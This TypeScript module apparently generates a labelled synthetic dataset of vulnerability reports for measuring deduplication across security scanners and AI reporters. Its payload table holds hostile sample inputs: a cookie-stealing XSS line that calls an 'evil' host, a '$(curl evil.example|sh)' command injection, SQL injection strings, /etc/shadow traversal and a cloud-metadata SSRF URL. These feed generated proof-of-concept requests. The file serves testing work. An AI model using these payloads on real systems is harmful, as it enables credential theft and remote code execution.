/**
 * A labelled, deterministic (seeded) synthetic intake for measuring deduplication: root causes in
 * synthetic projects, each reported by 1–5 reporters who differ the way real ones do:
 *
 * - tools: each reporter runs its own tool (CodeQL, Semgrep, Snyk Code, two AI models); only
 *   GitHub-style SARIF uploads carry `primaryLocationLineHash` (a hash of the pointed line's text),
 *   tool fingerprints only match the same tool, AI reporters carry none;
 * - pointing: tools point at the sink line most of the time, sometimes at the source line, and
 *   sometimes name the caller rather than the function (or no symbol at all);
 * - commits: reports against other commits shift lines by up to ±25;
 * - targets: repository URL in several spellings and/or the package purl;
 * - CWEs: the canonical one, a neighbour (CWE-89 vs CWE-943), both, or none;
 * - text: each reporter writes in its own style (different templates), with synonym swaps,
 *   reordered sentences, tool boilerplate; AI reporters attach PoCs in their own format;
 * - aliases: some root causes get a CVE/GHSA, which some reports (not all) carry;
 * - hard negatives: a share of root causes are siblings of another — same project, file and CWE,
 *   another function, text from the same templates.
 */
import { seededRandom } from '../../domain/random.js';
import type { Finding, FindingAttachment } from '../../domain/finding.js';
import { fnv1a32 } from './similarity.js';

export interface LabelledFinding {
  findingId: string;
  reporterId: string;
  seenAt: Date;
  /** the true root cause (what a perfect deduplication groups by) */
  rootCause: string;
  finding: Finding;
}

export interface SyntheticOptions {
  seed?: number;
  /** total findings wanted (default 30,000) */
  findings?: number;
  /** reporters (default 5, at most 5 distinct tools; more reuse them) */
  reporters?: number;
  /** share of root causes that are a sibling of an earlier one (default 0.25) */
  hardNegativeRate?: number;
}


interface Family {
  cwe: string;
  alt: string[];
  names: string[];
  sinks: string[];
  impact: string[];
  source: string[];
  payload: string[];
}

const FAMILIES: Family[] = [
  { cwe: 'CWE-89', alt: ['CWE-943', 'CWE-564'], names: ['SQL injection', 'SQLi'], sinks: ['db.query', 'cursor.execute', 'knex.raw', 'session.execute'], impact: ['read or modify any row in the database', 'dump the users table including password hashes'], source: ['request parameter', 'query string'], payload: ["' OR '1'='1", "1 UNION SELECT username, password FROM users--"] },
  { cwe: 'CWE-79', alt: ['CWE-80', 'CWE-83'], names: ['cross-site scripting', 'XSS'], sinks: ['innerHTML', 'res.send', 'dangerouslySetInnerHTML', 'document.write'], impact: ['run script in the victim browser and steal the session', 'act on behalf of a signed-in user'], source: ['URL fragment', 'form field'], payload: ['<script>alert(document.domain)</script>', '<img src=x onerror=fetch(`//evil/`+document.cookie)>'] },
  { cwe: 'CWE-22', alt: ['CWE-23', 'CWE-73'], names: ['path traversal', 'directory traversal'], sinks: ['fs.readFile', 'open', 'send_file', 'Files.readAllBytes'], impact: ['read arbitrary files such as /etc/passwd', 'overwrite files outside the upload directory'], source: ['file name parameter', 'archive entry name'], payload: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow'] },
  { cwe: 'CWE-78', alt: ['CWE-77', 'CWE-88'], names: ['OS command injection', 'command injection'], sinks: ['child_process.exec', 'os.system', 'subprocess.run', 'Runtime.exec'], impact: ['execute arbitrary commands as the service user', 'take over the host'], source: ['host name field', 'request body'], payload: ['; id #', '$(curl evil.example|sh)'] },
  { cwe: 'CWE-502', alt: ['CWE-915', 'CWE-20'], names: ['unsafe deserialization', 'insecure deserialization'], sinks: ['pickle.loads', 'yaml.load', 'ObjectInputStream.readObject', 'unserialize'], impact: ['execute code during deserialization', 'instantiate arbitrary classes'], source: ['cookie value', 'uploaded file'], payload: ['gadget chain CommonsCollections6', 'crafted pickle with __reduce__'] },
  { cwe: 'CWE-918', alt: ['CWE-441', 'CWE-601'], names: ['server-side request forgery', 'SSRF'], sinks: ['requests.get', 'fetch', 'http.get', 'HttpClient.send'], impact: ['reach internal services and cloud metadata', 'scan the internal network'], source: ['webhook URL', 'image URL parameter'], payload: ['http://169.254.169.254/latest/meta-data/', 'http://localhost:6379/'] },
  { cwe: 'CWE-787', alt: ['CWE-119', 'CWE-120'], names: ['out-of-bounds write', 'heap buffer overflow'], sinks: ['memcpy', 'strcpy', 'sprintf', 'buf[len]'], impact: ['corrupt heap metadata and execute code', 'crash the process'], source: ['length field of the packet', 'header size'], payload: ['packet with length 0xffff', 'header of 70000 bytes'] },
  { cwe: 'CWE-476', alt: ['CWE-690', 'CWE-252'], names: ['NULL pointer dereference', 'null dereference'], sinks: ['ptr->next', 'ctx->cfg', 'node->value', 'conn->ssl'], impact: ['crash the server (denial of service)', 'terminate the worker'], source: ['malformed message', 'empty configuration section'], payload: ['message without body', 'empty section header'] },
  { cwe: 'CWE-400', alt: ['CWE-1333', 'CWE-770'], names: ['uncontrolled resource consumption', 'regular expression denial of service'], sinks: ['RegExp.test', 're.match', 'JSON.parse', 'zlib.inflate'], impact: ['pin the CPU and stall all requests', 'exhaust memory'], source: ['user agent header', 'request body'], payload: ['aaaaaaaaaaaaaaaaaaaaaaaaaaaa!', 'deeply nested array of 1e6 levels'] },
  { cwe: 'CWE-862', alt: ['CWE-285', 'CWE-639'], names: ['missing authorization', 'broken access control'], sinks: ['router.delete', 'updateRecord', 'export_data', 'adminHandler'], impact: ['delete other tenants data', 'read any user invoice'], source: ['object id in the path', 'tenant header'], payload: ['DELETE /api/records/42 as another tenant', 'GET /invoices/1001 with a low-privilege token'] },
];

const SYNONYMS: Record<string, string[]> = {
  allows: ['lets', 'permits', 'enables'],
  attacker: ['adversary', 'malicious user', 'remote attacker'],
  user: ['caller', 'client'],
  input: ['data', 'value'],
  passed: ['forwarded', 'handed', 'sent'],
  without: ['with no', 'lacking'],
  validation: ['sanitization', 'checking', 'escaping'],
  function: ['method', 'routine', 'handler'],
  vulnerable: ['affected', 'exposed'],
  untrusted: ['attacker-controlled', 'tainted', 'unsanitized'],
  leads: ['results', 'ends up'],
  directly: ['straight', 'verbatim'],
  reach: ['hit', 'get to'],
  craft: ['build', 'construct', 'forge'],
};

/** Reporter styles: sentence templates (slots in braces). Each reporter writes mostly in its own. */
const STYLES: string[][] = [
  [
    '{Name} in {fn} ({file}).',
    'The {source} flows into {sink} without validation, so an untrusted value reaches the query.',
    'An attacker can craft the {param} value to {impact}.',
    'The vulnerable function is {fn} at line {line}.',
  ],
  [
    'User input from the {source} ({param}) is passed directly to {sink} in function {fn}.',
    'This leads to {name}.',
    'A remote attacker could {impact}.',
    'Fix: validate {param} before calling {sink}.',
  ],
  [
    'Summary: {fn} in {file} is vulnerable to {name}.',
    'Root cause: the {param} argument is untrusted and reaches {sink} unchanged.',
    'Impact: an attacker is able to {impact}.',
    'Reproduce with the attached PoC; the sink is {sink} at {file}:{line}.',
  ],
  [
    '{Name} vulnerability.',
    '{file} line {line}: {sink} receives data derived from the {source} without validation.',
    'Affected function: {fn}; tainted parameter: {param}.',
    'Exploitation allows an attacker to {impact}.',
  ],
  [
    'We found that {fn} passes the {param} value from the {source} to {sink}.',
    'Because there is no validation, this is {name}.',
    'An attacker can {impact}.',
  ],
];

const BOILERPLATE: Record<string, string> = {
  codeql: 'This query identifies flows of untrusted data to a sensitive sink. See the query help for recommendations and references.',
  semgrep: 'Semgrep rule from the community registry. Rule metadata: confidence MEDIUM, likelihood MEDIUM, impact HIGH. Review the finding and the referenced OWASP category.',
  'snyk-code': 'Snyk Code detected this issue using data flow analysis. Priority score computed from severity, fixability and exploit maturity.',
  'model-a': 'Generated by an automated security review; verify before acting.',
  'model-b': 'This report was produced by an AI agent during an authorized audit.',
};

interface ReporterProfile {
  id: string;
  tool: string;
  style: number;
  lineHash: number;
  toolFingerprint: string | null;
  symbolRate: number;
  pocRate: number;
  boilerplateRate: number;
  purlRate: number;
}

const PROFILES: Array<Omit<ReporterProfile, 'id'>> = [
  { tool: 'codeql', style: 0, lineHash: 0.95, toolFingerprint: null, symbolRate: 0.5, pocRate: 0, boilerplateRate: 0.7, purlRate: 0.2 },
  { tool: 'semgrep', style: 3, lineHash: 0.4, toolFingerprint: 'matchBasedId/v1', symbolRate: 0.35, pocRate: 0, boilerplateRate: 0.6, purlRate: 0.2 },
  { tool: 'model-a', style: 2, lineHash: 0, toolFingerprint: null, symbolRate: 0.9, pocRate: 0.5, boilerplateRate: 0.3, purlRate: 0.4 },
  { tool: 'snyk-code', style: 1, lineHash: 0, toolFingerprint: 'identity', symbolRate: 0.6, pocRate: 0, boilerplateRate: 0.6, purlRate: 0.6 },
  { tool: 'model-b', style: 4, lineHash: 0, toolFingerprint: null, symbolRate: 0.85, pocRate: 0.4, boilerplateRate: 0.3, purlRate: 0.3 },
];

interface Project {
  id: number;
  owner: string;
  name: string;
  purl: string | null;
  ext: string;
  files: Array<{ path: string; fns: Array<{ name: string; start: number }> }>;
}

interface RootCause {
  id: string;
  project: Project;
  file: number;
  fn: number;
  caller: string;
  family: Family;
  param: string;
  sink: string;
  impact: string;
  source: string;
  payload: string;
  sinkLine: number;
  sourceLine: number;
  alias: string | null;
  endpoint: string;
  reportedAt: number;
}

const VERBS = ['get', 'set', 'load', 'save', 'parse', 'render', 'handle', 'update', 'delete', 'fetch', 'build', 'read', 'write', 'export', 'import', 'resolve', 'check', 'process'];
const NOUNS = ['User', 'Order', 'Invoice', 'Config', 'Session', 'Report', 'File', 'Image', 'Token', 'Header', 'Packet', 'Record', 'Profile', 'Webhook', 'Template', 'Archive', 'Message', 'Query', 'Tenant', 'Upload'];
const DIRS = ['api', 'handlers', 'lib', 'core', 'services', 'utils', 'controllers', 'net', 'storage', 'admin'];
const PARAMS = ['id', 'name', 'path', 'url', 'filter', 'sort', 'q', 'host', 'template', 'data', 'size', 'token'];
const ECOSYSTEMS: Array<[string, string]> = [['npm', 'js'], ['pypi', 'py'], ['maven', 'java'], ['golang', 'go'], ['gem', 'rb'], ['generic', 'c']];
const WORDS = ['acme', 'nova', 'orbit', 'pixel', 'quartz', 'river', 'solar', 'tango', 'ultra', 'vertex', 'willow', 'zephyr', 'amber', 'delta', 'ember', 'flux'];

/** Generates the labelled findings, ordered by `seenAt`, ids `F-1`… in that order. */
export function generateSynthetic(options: SyntheticOptions = {}): LabelledFinding[] {
  const rnd = seededRandom(options.seed ?? 1);
  const total = options.findings ?? 30_000;
  const reporterCount = options.reporters ?? 5;
  const hardRate = options.hardNegativeRate ?? 0.25;
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const int = (lo: number, hi: number) => lo + Math.floor(rnd() * (hi - lo + 1));
  const chance = (p: number) => rnd() < p;

  const reporters: ReporterProfile[] = Array.from({ length: reporterCount }, (_, i) => ({ ...PROFILES[i % PROFILES.length]!, id: `lab-${String.fromCharCode(97 + i)}` }));

  // Projects: enough that unrelated root causes rarely share a file by accident.
  const projectCount = Math.max(20, Math.round(total / 40));
  const projects: Project[] = [];
  for (let p = 0; p < projectCount; p++) {
    const [type, ext] = pick(ECOSYSTEMS);
    const name = `${pick(WORDS)}-${pick(WORDS)}${p}`;
    const owner = `${pick(WORDS)}org${p % 97}`;
    const files: Project['files'] = [];
    const fileCount = int(8, 30);
    for (let f = 0; f < fileCount; f++) {
      const fns: Array<{ name: string; start: number }> = [];
      const used = new Set<string>();
      let line = int(5, 40);
      const fnCount = int(4, 16);
      for (let k = 0; k < fnCount; k++) {
        let fn = `${pick(VERBS)}${pick(NOUNS)}`;
        while (used.has(fn)) fn = `${pick(VERBS)}${pick(NOUNS)}${used.size}`;
        used.add(fn);
        fns.push({ name: fn, start: line });
        line += int(12, 90);
      }
      files.push({ path: `src/${pick(DIRS)}/${pick(NOUNS).toLowerCase()}${f}.${ext}`, fns });
    }
    projects.push({ id: p, owner, name, purl: purlOf(type, owner, name), ext, files });
  }

  const out: Array<Omit<LabelledFinding, 'findingId'>> = [];
  const rootCauses: RootCause[] = [];
  const occupied = new Set<string>();
  let time = Date.UTC(2025, 0, 1);
  while (out.length < total) {
    const sibling = rootCauses.length > 0 && chance(hardRate) ? pick(rootCauses) : null;
    const project = sibling ? sibling.project : pick(projects);
    const file = sibling ? sibling.file : int(0, project.files.length - 1);
    const fns = project.files[file]!.fns;
    const fn = int(0, fns.length - 1);
    const family = sibling ? sibling.family : pick(FAMILIES);
    // One root cause per function and weakness family: two "different" SQL injections in one
    // function are one bug to an analyst. Siblings land in another function of the same file.
    const slot = `${project.id}/${file}/${fn}/${family.cwe}`;
    if (occupied.has(slot)) continue;
    occupied.add(slot);
    const start = fns[fn]!.start;
    const sourceLine = start + int(1, 4);
    const rc: RootCause = {
      id: `RC-${rootCauses.length + 1}`,
      project,
      file,
      fn,
      caller: pick(fns).name,
      family,
      param: pick(PARAMS),
      sink: pick(family.sinks),
      impact: pick(family.impact),
      source: pick(family.source),
      payload: pick(family.payload),
      sourceLine,
      sinkLine: sourceLine + int(1, 8),
      alias: chance(0.15) ? (chance(0.7) ? `CVE-2025-${int(10000, 99999)}` : `ghsa-${code(rnd)}-${code(rnd)}-${code(rnd)}`) : null,
      endpoint: `/${pick(DIRS)}/${pick(NOUNS).toLowerCase()}`,
      reportedAt: (time += int(1, 600) * 1000),
    };
    rootCauses.push(rc);
    const count = Math.min(reporterCount, weightedCount(rnd));
    const chosen = shuffle([...reporters], rnd).slice(0, count);
    for (const reporter of chosen) {
      if (out.length >= total) break;
      const seenAt = new Date(rc.reportedAt + int(0, 30 * 24 * 3600) * 1000);
      out.push({ reporterId: reporter.id, seenAt, rootCause: rc.id, finding: report(rc, reporter, rnd) });
    }
  }
  out.sort((a, b) => a.seenAt.getTime() - b.seenAt.getTime());
  return out.map((f, i) => ({ findingId: `F-${i + 1}`, ...f }));
}

/** Valid purls: Maven needs a group, Go modules are named by their repository path. */
function purlOf(type: string, owner: string, name: string): string | null {
  if (type === 'generic') return null;
  if (type === 'maven') return `pkg:maven/org.${owner}/${name}`;
  if (type === 'golang') return `pkg:golang/github.com/${owner}/${name}`;
  return `pkg:${type}/${name}`;
}

/** 1–5 reporters per root cause, most found by one or two. */
function weightedCount(rnd: () => number): number {
  const r = rnd();
  return r < 0.35 ? 1 : r < 0.65 ? 2 : r < 0.83 ? 3 : r < 0.94 ? 4 : 5;
}

function code(rnd: () => number): string {
  const chars = '23456789cfghjmpqrvwx';
  let s = '';
  for (let i = 0; i < 4; i++) s += chars[Math.floor(rnd() * chars.length)];
  return s;
}

function shuffle<T>(xs: T[], rnd: () => number): T[] {
  for (let i = xs.length - 1; i > 0; i--) {
    const j = Math.floor(rnd() * (i + 1));
    [xs[i], xs[j]] = [xs[j]!, xs[i]!];
  }
  return xs;
}

function report(rc: RootCause, reporter: ReporterProfile, rnd: () => number): Finding {
  const chance = (p: number) => rnd() < p;
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const project = rc.project;
  const file = project.files[rc.file]!;
  const fnName = file.fns[rc.fn]!.name;

  const atSink = chance(0.8);
  const pointed = atSink ? rc.sinkLine : rc.sourceLine;
  const shift = chance(0.4) ? Math.round((rnd() * 2 - 1) * 25) : 0;
  const line = Math.max(1, pointed + shift);
  const symbol = chance(reporter.symbolRate) ? (chance(0.05) ? rc.caller : fnName) : null;

  let path = file.path;
  const spelling = rnd();
  if (spelling < 0.05) path = `./${path}`;
  else if (spelling < 0.08) path = path.replace('/', '//');
  else if (spelling < 0.1) path = path.replace(/\//g, '\\');

  const usePurl = project.purl !== null && chance(reporter.purlRate);
  const useRepo = !usePurl || chance(0.5);
  const repoSpellings = [`https://github.com/${project.owner}/${project.name}`, `https://github.com/${project.owner}/${project.name}.git`, `git@github.com:${project.owner}/${project.name}.git`, `https://github.com/${cap(project.owner)}/${project.name}/`];

  const r = rnd();
  const cwes = r < 0.7 ? [rc.family.cwe] : r < 0.82 ? [pick(rc.family.alt)] : r < 0.95 ? [rc.family.cwe, pick(rc.family.alt)] : [];

  // The pointed line's text identifies it across tools (what primaryLocationLineHash hashes).
  const lineText = `${project.id}:${rc.file}:${atSink ? `sink:${rc.id}` : `source:${rc.id}`}`;
  const fingerprints: Record<string, string> = {};
  if (chance(reporter.lineHash)) fingerprints.primaryLocationLineHash = `${hex(fnv1a32(lineText, 7))}${hex(fnv1a32(lineText, 11))}:1`;
  if (reporter.tool === 'codeql') fingerprints.primaryLocationStartColumnFingerprint = String(Math.floor(rnd() * 30));
  if (reporter.toolFingerprint) fingerprints[reporter.toolFingerprint] = hex(fnv1a32(`${reporter.tool}:${lineText}`, 3)) + hex(fnv1a32(`${reporter.tool}:${lineText}`, 5));

  const aliases = rc.alias && chance(0.6) ? [chance(0.5) ? rc.alias : rc.alias.toLowerCase()] : [];

  const slots: Record<string, string> = {
    name: pick(rc.family.names),
    fn: fnName,
    file: file.path.split('/').pop()!,
    line: String(line),
    param: rc.param,
    sink: rc.sink,
    impact: rc.impact,
    source: rc.source,
  };
  const style = chance(0.85) ? reporter.style : Math.floor(rnd() * STYLES.length);
  let sentences = STYLES[style]!.map((s) => fill(s, slots));
  sentences = sentences.map((s) => swapSynonyms(s, rnd));
  if (chance(0.3)) sentences = shuffle(sentences, rnd);
  if (chance(reporter.boilerplateRate)) sentences.push(BOILERPLATE[reporter.tool] ?? '');
  const description = sentences.join(' ');
  const title = chance(0.5) ? `${cap(slots.name!)} in ${fnName}` : `${cap(slots.name!)} via ${rc.param} in ${slots.file}`;

  const attachments: FindingAttachment[] = [];
  if (chance(reporter.pocRate)) {
    const poc =
      reporter.tool === 'model-a'
        ? `import requests\nr = requests.post("https://target.example${rc.endpoint}", data={"${rc.param}": ${JSON.stringify(rc.payload)}})\nprint(r.status_code, r.text[:200])\n`
        : `curl -sk 'https://target.example${rc.endpoint}' --data-urlencode '${rc.param}=${rc.payload}'\n# expected: ${rc.impact}\n`;
    const content = Buffer.from(poc, 'utf8').toString('base64');
    attachments.push({ name: 'poc.txt', kind: 'poc', mediaType: 'text/plain', sha256: hex(fnv1a32(poc)), size: poc.length, content });
  }

  return {
    externalId: `${reporter.tool}-${rc.id}-${Math.floor(rnd() * 1e9)}`,
    title,
    description,
    purl: usePurl ? project.purl : null,
    affectedVersions: null,
    repository: useRepo ? pick(repoSpellings) : null,
    commit: shift ? hex(fnv1a32(`${rc.id}${shift}`)) : null,
    location: { file: path, startLine: line, endLine: line, symbol },
    cwes,
    claimedImpact: rc.impact,
    aliases,
    fingerprints,
    ruleId: `${reporter.tool}/${rc.family.cwe.toLowerCase()}`,
    severity: 'high',
    provenance: { tool: reporter.tool, toolVersion: '1.0', runId: null, configHash: null },
    attachments,
  };
}

const hex = (n: number): string => n.toString(16).padStart(8, '0');
const cap = (s: string): string => s.charAt(0).toUpperCase() + s.slice(1);

function fill(template: string, slots: Record<string, string>): string {
  return template.replace(/\{(\w+)\}/g, (_, key: string) => {
    const lower = key.toLowerCase();
    const v = slots[lower] ?? '';
    return key === lower ? v : cap(v);
  });
}

function swapSynonyms(sentence: string, rnd: () => number): string {
  return sentence.replace(/\b[a-z]+\b/g, (w) => {
    const alts = SYNONYMS[w];
    return alts && rnd() < 0.35 ? alts[Math.floor(rnd() * alts.length)]! : w;
  });
}
